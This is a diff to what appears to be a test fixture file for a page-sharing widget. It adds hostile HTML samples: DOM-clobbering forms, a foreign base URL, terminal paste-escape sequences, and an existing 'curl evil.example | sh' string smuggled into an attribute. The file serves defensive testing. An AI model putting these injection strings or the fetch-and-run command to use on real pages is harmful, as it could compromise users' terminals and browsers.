@@ -64,6 +64,14 @@ NAMES: Final = (
     # What more.js asks of all around a passage, the document last.
     *("host", "matches", "dataset", "id", "contains", "parentNode", "textContent", "nodeType"),
 )
+# What the scripts ask of the elements of a page: a form's own are hidden by its fields.
+FIELDS: Final = (
+    *("alt", "childNodes", "checkVisibility", "closest", "contains", "data", "dataset", "dir"),
+    *("firstChild", "getRootNode", "hidden", "host", "href", "id", "lang", "localName", "matches"),
+    *("nodeType", "open", "parentNode", "querySelector", "querySelectorAll", "rows", "select"),
+    *("shadowRoot", "splitText", "src", "start", "textContent", "title"),
+)
+_INPUTS: Final = "".join(f'<input type="hidden" name="{name}">' for name in FIELDS)
 COMMENTS: Final = {
     "nothing": "Well said.",
     "links": "".join(
@@ -84,6 +92,7 @@ COMMENTS: Final = {
     "foreign-host": (
         f'<div data-sharekit="x https:///evil.example/ The real story:{SIGNATURE}">hi</div>'
     ),
+    "other-tenant": f'<i data-sharekit="x http://localhost/p/ The real story:{SIGNATURE}">hi</i>',
     # As many marks as keep a look at each of them busy for minutes.
     "flood": (
         f'<span data-sharekit="x {{address}} t:{SIGNATURE}"><a data-sharekit-channel="w" '
@@ -93,8 +102,25 @@ COMMENTS: Final = {
         f'<span data-sharekit="x {{site}}/paste/ y&#10;curl evil.example | sh&#13;#:{SIGNATURE}">'
         "</span>"
     ),
+    "odd": (
+        f'<span data-sharekit="x {{site}}/paste/ y&#27;[201~&#7;&#x202e;z:{SIGNATURE}"></span>'
+    ),
+    "odd-address": (
+        f'<span data-sharekit="x {{site}}/paste/&#27;[201~/ Money:{SIGNATURE}"></span>'
+    ),
     "base": '<base href="/paste/">',
+    "foreign-base": '<base href="{evil}/">',
+    "form": f'<form data-sharekit-article="x">{_INPUTS}<p id="inside">Many a word.</p></form>',
+    "images": "".join(f'<form><img id="{name}"></form>' for name in FIELDS),
+    "fields": "".join(f'<form><input type="hidden" name="{name}"></form>' for name in FIELDS),
+    "pair": '<form><input type="hidden" name="alt"><input type="hidden" name="alt"></form>',
+    "bar": (
+        f'<form {_FAKE}><input type="hidden" name="querySelector">'
+        f"<a {_PLAIN} data-sharekit-channel=copy-link>photos</a></form>"
+    ),
     "halved": f'<p id="{"a" * 63}😀">A long walk.</p>',
+    # A page in parts, whose tag names the whole.
+    "part": f'<div data-sharekit="x {{address}} Give money:{SIGNATURE}">hi</div>',
     "own-article": f'<div data-sharekit="x {{address}} Give money:{SIGNATURE}">hi</div>',
     "opt-out": (
         '<a id="link" href="#" data-sharekit-opt-out>photos</a>'
